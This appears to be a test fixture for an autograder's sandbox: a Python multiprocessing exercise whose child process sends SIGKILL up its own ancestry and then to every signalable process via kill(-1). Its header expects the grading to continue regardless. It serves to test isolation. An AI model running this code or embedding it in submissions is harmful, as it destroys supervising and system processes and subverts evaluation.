# Shows: the child greets, then walks up its process tree sending SIGKILL to each ancestor it can see (the grader's JVM is one without isolation), then to every process it may signal; the grading must go on, and this exercise lose its clean exit.
# Exercise: procEx
# Expect: loses finishes-cleanly
# Needs: root
import os
import signal
from multiprocessing import Process, current_process


def parent_of(pid):
    try:
        with open("/proc/%d/stat" % pid) as stat:
            return int(stat.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def sayHi():
    print("Hi from process", current_process().pid)
    pid = os.getppid()
    seen = set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        above = parent_of(pid)
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
        pid = above
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass


def procEx():
    print("Hi from process", current_process().pid, "(parent process)")
    child = Process(target=sayHi)
    child.start()
    child.join()


if __name__ == "__main__":
    procEx()
